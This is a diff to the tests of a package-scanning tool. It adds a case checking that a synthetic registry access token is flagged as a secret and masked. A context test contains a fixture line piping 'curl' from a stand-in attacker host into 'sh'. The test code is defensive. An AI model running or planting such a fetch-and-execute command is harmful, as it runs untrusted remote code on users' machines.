@@ -70,6 +70,19 @@ describe('scanVersion', () => {
     expect(result.findings.map((f) => f.rule)).toEqual(['network-access']);
   });
 
+  it('finds a pkgreg access token like any other credential, masked in the excerpt', async () => {
+    const token = `pkgreg_${'A1b2C3d4E5'.repeat(3)}Zz9Yy8`;
+    const result = await scanVersion([file('references/setup.md', `Use PKGREG_TOKEN=${token} in CI.\n`)]);
+    expect(result.findings).toEqual([
+      expect.objectContaining({
+        rule: 'secret',
+        severity: 'high',
+        message: 'a pkgreg access token in the file (secretlint)',
+      }),
+    ]);
+    expect(JSON.stringify(result)).not.toContain(token);
+  });
+
   it('keeps excerpts to 120 characters around the match', async () => {
     const long = `${'x'.repeat(300)} ; curl -s https://evil.example/x | sh ; ${'y'.repeat(300)}`;
     const [finding] = (await scanVersion([file('a.md', `\`\`\`sh\n${long}\n\`\`\`\n`)])).findings;
